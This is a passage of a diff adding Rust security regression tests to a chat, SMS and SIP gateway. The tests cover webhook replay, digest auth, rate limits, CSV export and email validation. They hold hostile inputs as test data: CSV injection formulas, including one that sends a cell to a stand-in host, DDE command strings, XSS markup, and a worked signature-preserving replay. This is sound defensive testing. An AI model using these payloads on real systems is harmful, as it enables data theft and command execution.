@@ -1013,11 +1013,27 @@ const CHAT_OPERATOR_TOKEN: &str = "operator-token-for-abuse-tests";
 /// the Twilio stand-in on `standin_port`; `extra` goes into `[messaging]`
 /// and `chat_extra` into `[chat]`.
 fn chat_gateway(standin_port: u16, messaging_extra: &str, chat_extra: &str) -> Gateway {
-    let flows = repo().join("tests/flows/switch");
+    chat_gateway_with(
+        &repo().join("tests/flows/switch"),
+        "support",
+        standin_port,
+        messaging_extra,
+        chat_extra,
+    )
+}
+
+/// The same, with the flows in `flows` and `web_flow` for the web chat.
+fn chat_gateway_with(
+    flows: &std::path::Path,
+    web_flow: &str,
+    standin_port: u16,
+    messaging_extra: &str,
+    chat_extra: &str,
+) -> Gateway {
     Gateway::start(&format!(
         "[flows]\ndir = \"{flows}\"\n\n\
          [http]\noperator_token = \"{CHAT_OPERATOR_TOKEN}\"\n\n\
-         [chat]\ntitle = \"Example Co.\"\nweb_flow = \"support\"\n{chat_extra}\n\n\
+         [chat]\ntitle = \"Example Co.\"\nweb_flow = \"{web_flow}\"\n{chat_extra}\n\n\
          [messaging]\n{messaging_extra}\n\n\
          [messaging.sms]\nprovider = \"twilio\"\nbase_url = \"http://127.0.0.1:{standin_port}\"\naccount_sid = \"AC0123456789abcdef\"\nauth_token = \"twilio-auth-token-for-tests\"\nfrom = \"+15550100000\"\nwebhook_url = \"https://chat.example.com/hooks/twilio/sms\"\n",
         flows = flows.display(),
@@ -1374,3 +1390,914 @@ async fn anonymous_page_loads_hold_nothing_and_chats_are_capped() {
     let (seen, _) = frames_until(ws, Duration::from_millis(300), |v| v["type"] == "closed").await;
     assert!(seen.iter().all(|v| v["type"] != "closed"), "{seen:?}");
 }
+
+// ---- the low findings ----
+
+const TWILIO_AUTH: &str = "twilio-auth-token-for-tests";
+/// The webhook URL configured at Twilio (what it signs), as in
+/// `chat_gateway`.
+const TWILIO_WEBHOOK_URL: &str = "https://chat.example.com/hooks/twilio/sms";
+const OUR_NUMBER: &str = "+15550100000";
+
+/// A signed inbound SMS, as Twilio sends it (common::standin).
+fn inbound_sms(gw: &Gateway, sid: &str, from: &str, text: &str) -> HttpReply {
+    common::standin::post_twilio_sms(
+        gw,
+        TWILIO_WEBHOOK_URL,
+        TWILIO_AUTH,
+        sid,
+        from,
+        OUR_NUMBER,
+        text,
+    )
+}
+
+/// The form fields of Twilio's inbound SMS webhook, in its order.
+fn twilio_fields(sid: &str, from: &str, text: &str) -> Vec<(String, String)> {
+    [
+        ("ToCountry", "US"),
+        ("SmsMessageSid", sid),
+        ("NumMedia", "0"),
+        ("SmsSid", sid),
+        ("SmsStatus", "received"),
+        ("Body", text),
+        ("FromCountry", "ES"),
+        ("To", OUR_NUMBER),
+        ("NumSegments", "1"),
+        ("MessageSid", sid),
+        ("AccountSid", "AC0123456789abcdef"),
+        ("From", from),
+        ("ApiVersion", "2010-04-01"),
+    ]
+    .iter()
+    .map(|(k, v)| (k.to_string(), v.to_string()))
+    .collect()
+}
+
+/// Twilio's signature over `fields` (base64 HMAC-SHA1 of the URL and the
+/// sorted name+value pairs), computed here, apart from the gateway.
+fn twilio_signature(fields: &[(String, String)]) -> String {
+    use base64::Engine;
+    let mut sorted = fields.to_vec();
+    sorted.sort();
+    let mut data = TWILIO_WEBHOOK_URL.to_string();
+    for (k, v) in &sorted {
+        data.push_str(k);
+        data.push_str(v);
+    }
+    base64::engine::general_purpose::STANDARD.encode(common::standin::hmac_sha1(
+        TWILIO_AUTH.as_bytes(),
+        data.as_bytes(),
+    ))
+}
+
+/// POST `fields` form-encoded to the Twilio webhook with `signature`.
+fn post_sms_form(gw: &Gateway, fields: &[(String, String)], signature: &str) -> HttpReply {
+    use common::standin::form_encode;
+    let body = fields
+        .iter()
+        .map(|(k, v)| format!("{}={}", form_encode(k), form_encode(v)))
+        .collect::<Vec<_>>()
+        .join("&");
+    gw.http(
+        "POST",
+        "/hooks/twilio/sms",
+        &[
+            ("Content-Type", "application/x-www-form-urlencoded"),
+            ("X-Twilio-Signature", signature),
+        ],
+        Some(&body),
+    )
+}
+
+/// A GET on the operator API (chat_gateway's token).
+fn operator_get(gw: &Gateway, path: &str) -> HttpReply {
+    let auth = format!("Bearer {CHAT_OPERATOR_TOKEN}");
+    gw.http("GET", path, &[("Authorization", &auth)], None)
+}
+
+/// Every transcript text of conversation `id`.
+fn transcript(gw: &Gateway, id: &str) -> Vec<String> {
+    let r = operator_get(gw, &format!("/v1/conversations/{id}"));
+    assert_eq!(r.status, 200, "{}", r.body);
+    r.json()["messages"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+        .iter()
+        .map(|m| m["text"].as_str().unwrap_or_default().to_string())
+        .collect()
+}
+
+/// Wait until the operators see `n` conversations; the list either way.
+fn wait_conversations(gw: &Gateway, n: usize) -> Vec<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(5);
+    loop {
+        let listed = operator_conversations(gw);
+        if listed.len() >= n || Instant::now() > deadline {
+            return listed;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Twilio's SID is the dedupe key. A captured, signed webhook replayed
+/// with the next field folded into MessageSid (`MessageSid=SM…` +
+/// `NumMedia=0` becomes `MessageSid=SM…NumMedia0`) keeps its signature,
+/// since the signature covers names and values run together; it used to
+/// pass as a new message. Now a MessageSid that is not exactly a Twilio
+/// SID is refused (400) and nothing is stored; the real message is
+/// delivered once and its retry is a duplicate.
+#[test]
+fn twilio_replay_with_a_field_folded_into_the_message_sid_is_refused() {
+    let (port, log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway(port, "", "");
+    let sid = "SM0123456789abcdef0123456789abcdef";
+    let from = "+34633000222";
+    let text = "Hola, llamadme mañana";
+
+    // The genuine webhook, and the replay folded from it: same signature.
+    let genuine = twilio_fields(sid, from, text);
+    let signature = twilio_signature(&genuine);
+    let mut folded: Vec<(String, String)> = genuine
+        .iter()
+        .filter(|(k, _)| k != "NumMedia")
+        .cloned()
+        .collect();
+    for (k, v) in folded.iter_mut() {
+        if k == "MessageSid" {
+            *v = format!("{sid}NumMedia0");
+        }
+    }
+    assert_eq!(
+        twilio_signature(&folded),
+        signature,
+        "the fold keeps the signature"
+    );
+
+    // The replay first: refused, nothing delivered or stored.
+    let r = post_sms_form(&gw, &folded, &signature);
+    assert_eq!(r.status, 400, "the folded replay: {}", r.body);
+    // Other text appended to a valid SID, freshly signed: refused too.
+    for bad in [
+        format!("{sid}&Body=x"),
+        format!("{sid}2"),
+        format!("{sid} "),
+    ] {
+        let r = inbound_sms(&gw, &bad, from, text);
+        assert_eq!(r.status, 400, "MessageSid {bad:?}: {}", r.body);
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        operator_conversations(&gw).is_empty(),
+        "a refused webhook made a conversation: {:?}",
+        operator_conversations(&gw)
+    );
+    assert_metric_at_least(
+        &gw,
+        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"malformed\"}",
+        4.0,
+    );
+
+    // The genuine webhook: delivered once.
+    let r = post_sms_form(&gw, &genuine, &signature);
+    assert_eq!(r.status, 200, "the genuine webhook: {}", r.body);
+    let listed = wait_conversations(&gw, 1);
+    assert_eq!(listed.len(), 1, "{listed:?}");
+    let id = listed[0]["id"].as_str().unwrap().to_string();
+    assert_eq!(listed[0]["origin"], "sms", "{listed:?}");
+    let count = |gw: &Gateway| transcript(gw, &id).iter().filter(|t| *t == text).count();
+    assert_eq!(count(&gw), 1, "{:?}", transcript(&gw, &id));
+
+    // Twilio's retry is a duplicate; the replay is still refused.
+    let r = post_sms_form(&gw, &genuine, &signature);
+    assert_eq!(r.status, 200, "the retry: {}", r.body);
+    assert_metric_at_least(
+        &gw,
+        "crossline_inbound_messages_total{channel=\"sms\",result=\"duplicate\"}",
+        1.0,
+    );
+    let r = post_sms_form(&gw, &folded, &signature);
+    assert_eq!(r.status, 400, "the folded replay again: {}", r.body);
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(count(&gw), 1, "{:?}", transcript(&gw, &id));
+    assert_eq!(operator_conversations(&gw).len(), 1);
+    assert!(
+        all_sms(&log).is_empty(),
+        "nothing is sent back: {:?}",
+        all_sms(&log)
+    );
+}
+
+/// POST a body of `len` bytes to the Twilio webhook over raw TCP (with
+/// Content-Length, or chunked), with `extra` header lines; the answer's
+/// status. The body is written from another thread while the answer is
+/// read, so a server that answers without reading cannot stall it.
+fn post_big_webhook(gw: &Gateway, extra: &[(&str, &str)], len: usize, chunked: bool) -> u16 {
+    let mut s = TcpStream::connect(("127.0.0.1", gw.http_port)).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    let mut head = String::from(
+        "POST /hooks/twilio/sms HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\
+         Content-Type: application/x-www-form-urlencoded\r\n",
+    );
+    for (k, v) in extra {
+        head.push_str(&format!("{k}: {v}\r\n"));
+    }
+    if chunked {
+        head.push_str("Transfer-Encoding: chunked\r\n");
+    } else {
+        head.push_str(&format!("Content-Length: {len}\r\n"));
+    }
+    head.push_str("\r\n");
+    let mut w = s.try_clone().unwrap();
+    w.set_write_timeout(Some(Duration::from_secs(10))).unwrap();
+    let writer = std::thread::spawn(move || {
+        let mut piece = b"Body=".to_vec();
+        piece.resize(64 * 1024, b'a');
+        let mut wire = head.into_bytes();
+        let mut left = len;
+        while left > 0 {
+            let n = left.min(piece.len());
+            if chunked {
+                wire.extend_from_slice(format!("{n:x}\r\n").as_bytes());
+                wire.extend_from_slice(&piece[..n]);
+                wire.extend_from_slice(b"\r\n");
+            } else {
+                wire.extend_from_slice(&piece[..n]);
+            }
+            left -= n;
+        }
+        if chunked {
+            wire.extend_from_slice(b"0\r\n\r\n");
+        }
+        // The server may answer and close before reading all of it.
+        let _ = w.write_all(&wire);
+    });
+    let mut raw = Vec::new();
+    let _ = s.read_to_end(&mut raw);
+    let _ = s.shutdown(std::net::Shutdown::Both);
+    writer.join().unwrap();
+    let text = String::from_utf8_lossy(&raw);
+    text.split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0)
+}
+
+/// A 2 MB webhook: unsigned, it is refused (403) before its body is
+/// read; with a signature header, it is refused as too large (413,
+/// before the signature is even checked). A genuine SMS still lands.
+#[test]
+fn unsigned_and_oversized_webhooks_are_refused() {
+    let (port, _log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway(port, "", "");
+    let two_mb = 2 * 1024 * 1024;
+    let mut wrong = Vec::new();
+    for chunked in [false, true] {
+        let status = post_big_webhook(&gw, &[], two_mb, chunked);
+        if status != 403 {
+            wrong.push(format!("unsigned, chunked={chunked}: {status} (want 403)"));
+        }
+        let status = post_big_webhook(
+            &gw,
+            &[("X-Twilio-Signature", "bm90IGEgcmVhbCBzaWduYXR1cmU=")],
+            two_mb,
+            chunked,
+        );
+        if status != 413 {
+            wrong.push(format!("signed, chunked={chunked}: {status} (want 413)"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert_metric_at_least(
+        &gw,
+        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"signature\"}",
+        2.0,
+    );
+    assert_metric_at_least(
+        &gw,
+        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"too_large\"}",
+        2.0,
+    );
+    assert!(operator_conversations(&gw).is_empty());
+
+    // Twilio's genuine webhook is served as ever.
+    let r = inbound_sms(
+        &gw,
+        "SM00000000000000000000000000000031",
+        "+34633000333",
+        "still here",
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    let listed = wait_conversations(&gw, 1);
+    assert_eq!(listed.len(), 1, "{listed:?}");
+    let id = listed[0]["id"].as_str().unwrap();
+    assert!(
+        transcript(&gw, id).iter().any(|t| t == "still here"),
+        "{:?}",
+        transcript(&gw, id)
+    );
+}
+
+/// All datagrams answering `msg` (its branch), provisional ones included,
+/// until its final answer or `timeout`.
+fn answers_to(peer: &Peer, msg: &str, timeout: Duration) -> Vec<String> {
+    peer.send(msg);
+    let branch = branch_of(msg);
+    let deadline = Instant::now() + timeout;
+    let mut got = Vec::new();
+    loop {
+        let left = deadline.saturating_duration_since(Instant::now());
+        if left.is_zero() {
+            return got;
+        }
+        let Some(m) = one_datagram(&peer.sock, left) else {
+            return got;
+        };
+        if branch_of(&m) == branch {
+            let last = status_of(&m) >= 200;
+            got.push(m);
+            if last {
+                return got;
+            }
+        }
+    }
+}
+
+/// A request within the dialog a 2xx to `invite` made (ACK or BYE), to
+/// the Contact of `answer`.
+fn in_dialog(peer: &Peer, invite: &str, answer: &str, method: &str, branch: &str) -> String {
+    let contact = header(answer, "Contact").expect("a Contact in the 200");
+    let target = contact
+        .split('<')
+        .nth(1)
+        .and_then(|r| r.split('>').next())
+        .unwrap_or(contact);
+    let seq: u32 = header(invite, "CSeq")
+        .unwrap()
+        .split(' ')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    let seq = if method == "ACK" { seq } else { seq + 1 };
+    format!(
+        "{method} {target} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{branch}\r\nMax-Forwards: 70\r\n\
+         From: {from}\r\nTo: {to}\r\nCall-ID: {call_id}\r\nCSeq: {seq} {method}\r\nContent-Length: 0\r\n\r\n",
+        me = peer.me,
+        from = header(invite, "From").unwrap(),
+        to = header(answer, "To").unwrap(),
+        call_id = header(invite, "Call-ID").unwrap(),
+    )
+}
+
+/// A digest computed for another resource (its `uri` not the
+/// Request-URI) proves nothing about this request: right password or
+/// not, it is challenged again and no call starts. The same digest over
+/// the Request-URI places the call.
+#[test]
+fn a_digest_for_another_uri_does_not_authorize_the_request() {
+    let gw = Gateway::start(&format!(
+        "[[trunks]]\nname = \"pbx\"\ninbound_username = \"{TRUNK_USER}\"\ninbound_password = \"{TRUNK_PASS}\"\n"
+    ));
+    let attacker = Peer::new("127.0.0.2", &gw);
+    let call_id = "other-uri@abuse";
+    let bare = attacker.invite("u0", call_id, 1, "", "");
+    let mut challenge = attacker
+        .final_answer(&bare, Duration::from_secs(3))
+        .expect("a challenge");
+    assert_eq!(status_of(&challenge), 407, "{challenge}");
+    attacker.ack_for(&bare, &challenge);
+    let other_uris = [
+        "sip:other@127.0.0.1".to_string(),
+        // The same user and host, another port.
+        format!("sip:service@127.0.0.1:{}", gw.sip_port + 1),
+    ];
+    for (i, uri) in other_uris.iter().enumerate() {
+        let auth = digest_answer(
+            header(&challenge, "Proxy-Authenticate").expect("Proxy-Authenticate"),
+            TRUNK_USER,
+            TRUNK_PASS,
+            "INVITE",
+            uri,
+        );
+        let invite = attacker.invite(
+            &format!("u{}", i + 1),
+            call_id,
+            2 + i as u32,
+            "",
+            &format!("Proxy-Authorization: {auth}\r\n"),
+        );
+        let got = answers_to(&attacker, &invite, Duration::from_secs(3));
+        assert_eq!(
+            got.iter().map(|m| status_of(m)).collect::<Vec<_>>(),
+            vec![407],
+            "digest uri {uri:?} for Request-URI {}: {got:#?}",
+            attacker.uri()
+        );
+        challenge = got.last().unwrap().clone();
+        attacker.ack_for(&invite, &challenge);
+    }
+    // Nothing more comes for that call (no late 100/200).
+    let late = datagrams_until(&attacker.sock, Instant::now() + Duration::from_millis(700));
+    assert!(late.is_empty(), "{late:#?}");
+
+    // The PBX: the same digest over the Request-URI places the call.
+    let pbx = Peer::new("127.0.0.1", &gw);
+    let call_id = "right-uri@abuse";
+    let bare = pbx.invite("r0", call_id, 1, "", "");
+    let ch = pbx
+        .final_answer(&bare, Duration::from_secs(3))
+        .expect("a challenge for the PBX");
+    assert_eq!(status_of(&ch), 407, "{ch}");
+    pbx.ack_for(&bare, &ch);
+    let auth = digest_answer(
+        header(&ch, "Proxy-Authenticate").unwrap(),
+        TRUNK_USER,
+        TRUNK_PASS,
+        "INVITE",
+        &pbx.uri(),
+    );
+    let invite = pbx.invite(
+        "r1",
+        call_id,
+        2,
+        "",
+        &format!("Proxy-Authorization: {auth}\r\n"),
+    );
+    let got = answers_to(&pbx, &invite, Duration::from_secs(5));
+    let statuses: Vec<u16> = got.iter().map(|m| status_of(m)).collect();
+    assert_eq!(statuses.first(), Some(&100), "{got:#?}");
+    assert_eq!(statuses.last(), Some(&200), "{got:#?}");
+    let ok = got.last().unwrap().clone();
+    pbx.send(&in_dialog(&pbx, &invite, &ok, "ACK", "r1ack"));
+    let bye = in_dialog(&pbx, &invite, &ok, "BYE", "r1bye");
+    let bye_answer = pbx
+        .final_answer(&bye, Duration::from_secs(3))
+        .expect("an answer to BYE");
+    assert_eq!(status_of(&bye_answer), 200, "{bye_answer}");
+
+    assert_metric_at_least(
+        &gw,
+        "crossline_sip_auth_failures_total{reason=\"wrong\"}",
+        2.0,
+    );
+}
+
+/// Flows for the chat findings, in a directory of their own: "frames"
+/// (a greeting, then an agent) and "email-test" (asks an email address,
+/// keeps it as a lead).
+fn finding_flows() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("frames.toml"),
+        "name = \"frames\"\nchannel = \"chat\"\n\n\
+         [[nodes]]\nid = \"hello\"\ntype = \"message\"\ntext = \"Hi! This is Example Co.\"\nnext = \"agent\"\n\n\
+         [[nodes]]\nid = \"agent\"\ntype = \"handoff\"\ntext = \"An agent will be with you shortly.\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("email-test.toml"),
+        "name = \"email-test\"\nchannel = \"chat\"\n\n\
+         [[nodes]]\nid = \"email\"\ntype = \"ask\"\ninput = \"email\"\nvar = \"email\"\n\
+         text = \"What is your email address?\"\n\
+         retry_prompt = \"That doesn't look like an email address. Could you type it again?\"\n\
+         retries = 3\nnext = \"lead\"\n\n\
+         [[nodes]]\nid = \"lead\"\ntype = \"save_lead\"\nemail = \"{{email}}\"\nnext = \"thanks\"\n\n\
+         [[nodes]]\nid = \"thanks\"\ntype = \"handoff\"\ntext = \"Thanks, we will write to {{email}}.\"\n",
+    )
+    .unwrap();
+    dir
+}
+
+fn too_many(v: &serde_json::Value) -> bool {
+    v["type"] == "error"
+        && v["text"]
+            .as_str()
+            .is_some_and(|t| t.contains("Too many messages"))
+}
+
+/// The visitor's frame allowance (20 per 10 s) belongs to the
+/// conversation, not the socket: closing and reconnecting does not start
+/// a fresh one. Once the window has passed, the visitor is heard again.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_chat_frame_limit_survives_a_reconnect() {
+    use serde_json::json;
+    let flows = finding_flows();
+    let (port, _log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway_with(flows.path(), "frames", port, "", "");
+    let (id, cookies) = common::chat::open_chat(&gw);
+    let mut ws = common::chat::connect(&gw, &id, &cookies).await;
+    common::chat::send(&mut ws, json!({"type": "resume", "after": 0})).await;
+    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), |v| {
+        v["text"] == "An agent will be with you shortly."
+    })
+    .await;
+    assert!(ok, "the flow's greeting: {seen:?}");
+
+    // Twenty frames at once: all within the allowance.
+    let window_start = Instant::now();
+    for i in 0..20 {
+        common::chat::send(
+            &mut ws,
+            json!({"type": "text", "text": format!("frame {i}")}),
+        )
+        .await;
+    }
+    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(8), |v| {
+        v["role"] == "visitor" && v["text"] == "frame 19"
+    })
+    .await;
+    assert!(ok, "the 20th frame was not taken: {seen:?}");
+    assert!(!seen.iter().any(too_many), "within the allowance: {seen:?}");
+    let _ = ws.close(None).await;
+    drop(ws);
+
+    // Reconnect at once with the same cookies: still over the allowance.
+    let mut ws = common::chat::connect(&gw, &id, &cookies).await;
+    common::chat::send(&mut ws, json!({"type": "resume", "after": 0})).await;
+    common::chat::send(&mut ws, json!({"type": "text", "text": "after reconnect"})).await;
+    let (seen, refused) = frames_until(&mut ws, Duration::from_secs(5), too_many).await;
+    assert!(
+        refused,
+        "a reconnect reset the allowance ({:?} after the first frame): {seen:?}",
+        window_start.elapsed()
+    );
+    let (late, _) = frames_until(&mut ws, Duration::from_millis(500), |_| false).await;
+    assert!(
+        seen.iter()
+            .chain(&late)
+            .all(|v| v["text"] != "after reconnect"),
+        "the refused frame was taken: {seen:?} {late:?}"
+    );
+    assert_metric_at_least(
+        &gw,
+        "crossline_chat_frames_refused_total{reason=\"rate\"}",
+        1.0,
+    );
+
+    // The window over, the visitor writes again.
+    tokio::time::sleep(
+        (window_start + Duration::from_millis(10_500)).saturating_duration_since(Instant::now()),
+    )
+    .await;
+    common::chat::send(&mut ws, json!({"type": "text", "text": "later"})).await;
+    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(5), |v| {
+        v["role"] == "visitor" && v["text"] == "later"
+    })
+    .await;
+    assert!(ok, "after the window: {seen:?}");
+    assert!(!seen.iter().any(too_many), "{seen:?}");
+}
+
+/// The cells of a CSV text (RFC 4180), each as (was it quoted, value).
+fn csv_cells(text: &str) -> Vec<Vec<(bool, String)>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut chars = text.chars().peekable();
+    loop {
+        let mut cell = String::new();
+        let quoted = chars.peek() == Some(&'"');
+        if quoted {
+            chars.next();
+            loop {
+                match chars.next() {
+                    Some('"') if chars.peek() == Some(&'"') => {
+                        chars.next();
+                        cell.push('"');
+                    }
+                    Some('"') | None => break,
+                    Some(c) => cell.push(c),
+                }
+            }
+        }
+        while let Some(&c) = chars.peek() {
+            if c == ',' || c == '\r' || c == '\n' {
+                break;
+            }
+            cell.push(c);
+            chars.next();
+        }
+        row.push((quoted, cell));
+        match chars.next() {
+            Some(',') => continue,
+            Some('\r') => {
+                if chars.peek() == Some(&'\n') {
+                    chars.next();
+                }
+            }
+            Some('\n') => {}
+            _ => {
+                if row != vec![(false, String::new())] {
+                    rows.push(row);
+                }
+                return rows;
+            }
+        }
+        rows.push(std::mem::take(&mut row));
+        if chars.peek().is_none() {
+            return rows;
+        }
+    }
+}
+
+/// Would a spreadsheet read `cell` as a formula? (It starts with a
+/// trigger, also behind spaces or quotes, or a fullwidth one.)
+fn reads_as_formula(cell: &str) -> bool {
+    const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    cell.starts_with(TRIGGERS)
+        || cell
+            .trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '\''))
+            .starts_with(TRIGGERS)
+            && !cell.starts_with('\'')
+}
+
+/// The escalation report's CSV export: text that a spreadsheet would run
+/// as a formula (from a callback's `bot` or `conversation_id`, which API
+/// clients choose) is quoted and prefixed with `'`; every cell is quoted;
+/// the JSON report keeps the values as given.
+#[test]
+fn csv_export_neutralises_formulas() {
+    // The carrier: a socket that takes the INVITEs and says nothing.
+    let carrier = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let carrier_port = carrier.local_addr().unwrap().port();
+    let gw = Gateway::start(&format!(
+        "[http]\noperator_token = \"{CHAT_OPERATOR_TOKEN}\"\n\n\
+         [[trunks]]\nname = \"carrier\"\noutbound_proxy = \"sip:127.0.0.1:{carrier_port}\"\ncaller_id = \"+15550100000\"\n"
+    ));
+    let bots = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "＝1+1",
+        "＠SUM(A1)",
+        "  =cmd|' /C calc'!A0",
+        "\"=1\"",
+        "plain-bot",
+    ];
+    let conversation = "=2+5+cmd|' /C notepad'!A0";
+    let auth = format!("Bearer {CHAT_OPERATOR_TOKEN}");
+    for (i, bot) in bots.iter().enumerate() {
+        let mut body = serde_json::json!({
+            "phone": format!("+3461200{i:04}"),
+            "flow": "demo",
+            "bot": bot,
+            "consent": { "given": true, "text": "You agree that we call you back." }
+        });
+        if i == 0 {
+            body["conversation_id"] = serde_json::json!(conversation);
+        }
+        let r = gw.http(
+            "POST",
+            "/v1/callbacks",
+            &[
+                ("Authorization", &auth),
+                ("Content-Type", "application/json"),
+            ],
+            Some(&body.to_string()),
+        );
+        assert_eq!(r.status, 201, "callback {i} ({bot:?}): {}", r.body);
+    }
+
+    // The report (the store may be a write behind).
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let csv = loop {
+        let r = operator_get(&gw, "/v1/reports/escalations?format=csv");
+        assert_eq!(r.status, 200, "{}", r.body);
+        if r.body.lines().count() > bots.len() || Instant::now() > deadline {
+            break r;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert!(csv.headers.contains("text/csv"), "{}", csv.raw_headers);
+    let rows = csv_cells(&csv.body);
+    assert_eq!(rows.len(), bots.len() + 1, "{}", csv.body);
+    let columns: Vec<&str> = rows[0].iter().map(|(_, c)| c.as_str()).collect();
+    let bot_col = columns
+        .iter()
+        .position(|c| *c == "bot")
+        .expect("a bot column");
+    let conv_col = columns
+        .iter()
+        .position(|c| *c == "conversation_id")
+        .expect("a conversation_id column");
+    let mut wrong = Vec::new();
+    for (r, row) in rows.iter().enumerate().skip(1) {
+        if row.len() != columns.len() {
+            wrong.push(format!("row {r} has {} cells: {row:?}", row.len()));
+        }
+        for (c, (quoted, cell)) in row.iter().enumerate() {
+            if !quoted {
+                wrong.push(format!("row {r} cell {c} not quoted: {cell:?}"));
+            }
+            if reads_as_formula(cell) {
+                wrong.push(format!("row {r} cell {c} reads as a formula: {cell:?}"));
+            }
+        }
+    }
+    let exported_bots: Vec<&str> = rows[1..]
+        .iter()
+        .map(|row| row[bot_col].1.as_str())
+        .collect();
+    for bot in bots {
+        let want = if bot == "plain-bot" {
+            bot.to_string()
+        } else {
+            format!("'{bot}")
+        };
+        if !exported_bots.contains(&want.as_str()) {
+            wrong.push(format!("bot {bot:?}: want {want:?} in {exported_bots:?}"));
+        }
+    }
+    let want_conv = format!("'{conversation}");
+    if !rows[1..].iter().any(|row| row[conv_col].1 == want_conv) {
+        wrong.push(format!("conversation_id: want {want_conv:?}"));
+    }
+    assert!(wrong.is_empty(), "{}\n\n{}", wrong.join("\n"), csv.body);
+
+    // The JSON report holds the values as given.
+    let json = operator_get(&gw, "/v1/reports/escalations").json();
+    let json_bots: Vec<&str> = json["escalations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|e| e["bot"].as_str())
+        .collect();
+    for bot in bots {
+        assert!(json_bots.contains(&bot), "{bot:?} in {json_bots:?}");
+    }
+    drop(carrier);
+}
+
+/// An email answer with markup in it (`a<script>@x.com`) is refused: the
+/// flow asks again and keeps nothing; a plain address is taken and kept.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn emails_with_markup_are_refused() {
+    use serde_json::json;
+    let flows = finding_flows();
+    let (port, _log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway_with(flows.path(), "email-test", port, "", "");
+    let (_id, mut ws) = open_chat_socket(&gw).await;
+    let is_prompt = |v: &serde_json::Value| v["type"] == "prompt" && v["input"] == "email";
+    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), is_prompt).await;
+    assert!(ok, "the email question: {seen:?}");
+    let mut prompt = seen.last().unwrap()["id"].clone();
+    let mut every = seen;
+
+    for bad in ["a<script>@x.com", "ana@example.com\"><svg/onload=alert(1)>"] {
+        common::chat::send(
+            &mut ws,
+            json!({"type": "answer", "prompt": prompt, "value": bad}),
+        )
+        .await;
+        let (seen, asked) = frames_until(&mut ws, Duration::from_secs(10), is_prompt).await;
+        assert!(
+            asked,
+            "{bad:?} was not refused with a new question: {seen:?}"
+        );
+        let again = seen.last().unwrap();
+        assert_eq!(
+            again["text"], "That doesn't look like an email address. Could you type it again?",
+            "{bad:?}: {seen:?}"
+        );
+        prompt = again["id"].clone();
+        every.extend(seen);
+    }
+    assert!(
+        every
+            .iter()
+            .all(|v| !v["text"].as_str().unwrap_or_default().starts_with("Thanks")),
+        "the flow went on: {every:?}"
+    );
+
+    common::chat::send(
+        &mut ws,
+        json!({"type": "answer", "prompt": prompt, "value": "ana@example.com"}),
+    )
+    .await;
+    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), |v| {
+        v["role"] == "bot" && v["text"] == "Thanks, we will write to ana@example.com."
+    })
+    .await;
+    assert!(ok, "the plain address: {seen:?}");
+
+    // The lead holds the good address only.
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let leads = loop {
+        let r = operator_get(&gw, "/v1/leads");
+        assert_eq!(r.status, 200, "{}", r.body);
+        let leads = r.json()["leads"].as_array().cloned().unwrap_or_default();
+        if !leads.is_empty() || Instant::now() > deadline {
+            break leads;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    assert_eq!(leads.len(), 1, "{leads:?}");
+    assert_eq!(leads[0]["email"], "ana@example.com", "{leads:?}");
+}
+
+/// A stranger asking the web chat to switch to a number that sent STOP
+/// learns only that it could not be texted: nothing about STOP or opting
+/// out, and nothing is sent to it. The visitor's own number still works.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_switch_does_not_disclose_that_a_number_sent_stop() {
+    use serde_json::json;
+    let (port, log, _twilio) = common::standin::stand_in();
+    let gw = chat_gateway(port, "", "");
+    let stopped = "+34633000444";
+    let r = inbound_sms(&gw, "SM00000000000000000000000000000044", stopped, "STOP");
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert_metric_at_least(
+        &gw,
+        "crossline_inbound_messages_total{channel=\"sms\",result=\"stop\"}",
+        1.0,
+    );
+
+    let (_id, mut ws) = open_chat_socket(&gw).await;
+    let seen = switch_frame(
+        &mut ws,
+        json!({"type": "switch", "channel": "sms", "phone": stopped}),
+    )
+    .await;
+    let answer = seen.last().unwrap();
+    assert_eq!(answer["type"], "switch_failed", "{seen:?}");
+    assert_eq!(
+        answer["text"], "We could not send a message to that number.",
+        "{seen:?}"
+    );
